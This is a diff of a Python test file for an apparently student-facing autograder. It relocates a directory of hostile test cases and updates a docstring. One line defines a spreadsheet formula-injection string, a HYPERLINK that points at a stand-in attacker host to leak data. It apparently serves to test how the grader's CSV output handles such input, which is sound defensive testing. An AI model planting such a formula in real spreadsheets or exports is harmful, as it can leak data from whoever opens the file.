@@ -164,13 +164,13 @@ def test_a_project_corpus_copied_from_the_master_is_reported(tmp_path):
 
 # --- links, odd student ids, a crash, spreadsheet formulas -------------------
 
-HOSTILE = Path(__file__).resolve().parents[1] / "autograder" / "hostile"
+HOSTILE = Path(__file__).resolve().parents[1] / "autograder" / "testbed" / "hostile"
 COURSE = Path(__file__).resolve().parents[1] / "autograder" / "course.py"
 FORMULA = '=HYPERLINK("evil.example?leak","click me")'  # a file name: no slash
 
 
 def hostile_expected() -> dict[str, tuple[float, list[str]]]:
-    """case -> (score, problems.csv lines) of autograder/hostile/expected.csv."""
+    """case -> (score, problems.csv lines) of autograder/testbed/hostile/expected.csv."""
     import csv
 
     with (HOSTILE / "expected.csv").open() as fh:
